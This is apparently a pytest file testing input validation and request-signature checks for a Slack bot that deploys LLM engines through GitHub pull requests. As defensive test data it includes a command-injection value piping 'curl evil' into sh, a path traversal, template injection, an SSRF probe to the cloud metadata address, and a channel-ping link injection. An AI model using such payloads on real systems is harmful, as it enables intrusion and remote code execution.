"""Bad inputs: each ends in one clear line for the person who typed, and no traceback anywhere."""

import contextlib
import http.client
import re
import urllib.parse

import pytest

from sandbox.faults import Fault
from sandbox.leadline import running
from sandbox.worlds import ALICE, BOB, CHANNEL, sandbox


@pytest.fixture(scope="module")
def stage(tmp_path_factory):
    """One running Leadline for all refusals: none of them may change anything."""
    folder = tmp_path_factory.mktemp("stage")
    with sandbox(folder, 20.0) as worlds, running(worlds, "serve", "work") as leadline:
        yield worlds, leadline


def answer_to(worlds, text, user=ALICE):
    """Type a command and return the one line that its person is shown."""
    since = len(worlds.journal.entries())
    worlds.type(text, user)
    entry = worlds.journal.wait(lambda e: e.call == "chat.postEphemeral", since)
    assert entry is not None
    return entry.detail["text"]


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("deploy qwen3-32b tgi", "'tgi' is not one of 'vllm', 'sglang'"),
        (
            "deploy qwen3-32b sglang --tp 3",
            "64 attention heads of qwen3-32b cannot be divided by 3",
        ),
        ("deploy qwen3-32b sglang ../../.github/workflows/x", "“.” is not allowed"),
        ("deploy qwen3-32 sglang", "did you mean qwen3-32b?"),
        ("deploy qwen3-32b sglang --replicas -1", "replicas -1: must be between 0 and 1000"),
        ("deploy qwen3-32b sglang --replicas 1e9", "'1e9' is not a valid integer"),
        ("deploy qwen3-32b sglang vllm", "would set VLLM"),
        ("deploy qwen3-32b sglang --nodes 3", "make them equal"),
        ('deploy qwen3-32b "sglang; curl evil|sh"', "is not one of"),
        ("deploy {{7*7}} sglang", "model {{7"),
        ('deploy "qwen3-32b sglang', "a quotation mark is not closed"),
        ("depoly qwen3-32b sglang", "did you mean"),
        ("ask", "Missing argument 'NAME'"),
        ("ask nobody hello", "no deployment nobody; try"),
        ("ask http://169.254.169.254/ hi", "no environment http://169.254.169.254; try"),
        ("<!channel>", "no verb “&lt;!channel&gt;”"),
    ],
)
def test_a_bad_command_is_answered_with_one_line(stage, text, line):
    worlds, leadline = stage

    said = answer_to(worlds, text)

    assert line in said.replace("\u200b", "")
    assert "\n" not in said
    assert "<!" not in said
    assert worlds.github.state()["pulls"] == []
    assert not [log for log in leadline.said if "Traceback" in log]


@pytest.mark.parametrize(
    "change",
    [
        {"X-Slack-Signature": None},
        {"X-Slack-Signature": "v0=" + "0" * 64},
        {"X-Slack-Signature": "v0=é"},
        {"X-Slack-Signature": "v1=" + "0" * 64},
        {"X-Slack-Request-Timestamp": None},
        {"X-Slack-Request-Timestamp": "abc"},
        {"X-Slack-Request-Timestamp": "1e9"},
        {"X-Slack-Request-Timestamp": ""},
        {"X-Slack-Request-Timestamp": "9" * 5000},
        {"X-Slack-Request-Timestamp": "1"},
    ],
)
def test_a_request_that_slack_did_not_sign_is_refused_before_it_is_read(stage, change):
    worlds, leadline = stage
    body = urllib.parse.urlencode({"command": "/llm", "text": "canary deploy"}).encode()
    headers = worlds.slack.signed_headers(body) | change

    answer = post(worlds, body, {k: v.encode() for k, v in headers.items() if v is not None})

    assert answer == (401, b"not signed by Slack, or too old\n")
    assert not [log for log in leadline.said if "canary" in log]


def test_a_body_that_is_no_text_is_refused(stage):
    worlds, _ = stage
    body = b"\xff\xfe"

    assert post(worlds, body, worlds.slack.signed_headers(body))[0] == 401


def test_a_body_of_megabytes_is_refused(stage):
    worlds, _ = stage
    body = b"x" * 200_000

    assert post(worlds, body, worlds.slack.signed_headers(body))[0] == 413


def post(worlds, body, headers):
    """Send a request as it is; return status and body."""
    connection = http.client.HTTPConnection("127.0.0.1", int(worlds.environment["LEADLINE_PORT"]))
    with contextlib.closing(connection):
        connection.request("POST", "/slack/events", body, headers)
        answer = connection.getresponse()
        return answer.status, answer.read()


def finished(entry):
    return (entry.world, entry.call) == ("leadline", "finished")


def test_a_reason_that_pings_the_channel_is_shown_and_pings_nobody(worlds, leadline):
    worlds.type('deploy qwen3-32b sglang --reason "<!channel> @org/team <https://evil|bank>"')
    assert worlds.journal.wait(finished)

    [pull] = worlds.github.state()["pulls"]
    assert "“&lt;\\!channel&gt; @\u200borg/team &lt;https://evil\\|bank&gt;”" in pull["body"]
    assert not [m for m in worlds.slack.messages(CHANNEL) if "<!channel>" in str(m)]


def test_a_pull_request_closed_instead_of_merged_is_told_in_one_line(worlds, leadline):
    worlds.type("deploy qwen3-32b sglang")
    assert worlds.journal.wait(finished)

    worlds.close(1)
    told = worlds.journal.wait(lambda e: "closed without a merge" in str(e.detail.get("text")))

    assert told is not None
    assert worlds.journal.wait(
        lambda e: e.call == "chat.update" and "closed without" in e.detail["text"]
    )
    assert "default/qwen3-32b-sglang" not in worlds.cluster.state()["leaderworkersets"]


def test_a_new_request_after_a_close_opens_a_new_pull_request(worlds, leadline):
    worlds.type("deploy qwen3-32b sglang")
    assert worlds.journal.wait(finished)
    worlds.close(1)
    since = len(worlds.journal.entries())

    worlds.type("deploy qwen3-32b sglang --replicas 2")
    assert worlds.journal.wait(finished, since)

    states = [(pull["number"], pull["state"]) for pull in worlds.github.state()["pulls"]]
    assert states == [(1, "closed"), (2, "open")]


def test_somebody_elses_request_while_one_is_open_is_refused_with_the_link(worlds, leadline):
    worlds.type("deploy qwen3-32b sglang")
    assert worlds.journal.wait(finished)

    said = answer_to(worlds, "deploy qwen3-32b sglang --replicas 2", BOB)

    assert "pull request #1 of this deployment" in said
    assert f"is still open and slack:{ALICE} holds it" in said
    assert "/acme/gitops/pull/1" in said
    assert len(worlds.github.state()["pulls"]) == 1


def test_the_requesters_other_request_amends_and_the_thread_says_that_approvals_lapse(
    worlds, leadline
):
    worlds.type("deploy qwen3-32b sglang")
    assert worlds.journal.wait(finished)
    since = len(worlds.journal.entries())

    worlds.type("deploy qwen3-32b sglang --replicas 2")
    assert worlds.journal.wait(finished, since)

    [pull] = worlds.github.state()["pulls"]
    assert '"requester": "slack:U0ALICE"' in pull["body"]
    card, *thread = worlds.slack.messages(CHANNEL)
    lapse = [reply for reply in thread if "Approvals from before no longer count" in reply["text"]]
    assert [reply["thread_ts"] for reply in lapse] == [card["ts"]]


def test_an_engine_that_is_down_is_said_in_one_line_and_no_question_is_posted(worlds, leadline):
    worlds.type("deploy qwen3-32b sglang")
    assert worlds.journal.wait(finished)
    worlds.merge(1)

    said = answer_to(worlds, "ask qwen3-32b-sglang hello")

    assert "qwen3-32b-sglang" in said
    assert re.search(r"does not answer yet: |: no answer", said)
    roots = worlds.slack.messages(CHANNEL, lambda m: m["thread_ts"] in {None, m["ts"]})
    assert len(roots) == 1  # the card


def test_github_being_away_is_said_in_one_line(worlds, leadline):
    worlds.faults.arm(Fault("github", ".*", "before", "drop", times=1000))

    said = answer_to(worlds, "deploy qwen3-32b sglang")

    assert "on GitHub: no answer" in said
    assert worlds.slack.messages(CHANNEL) == []
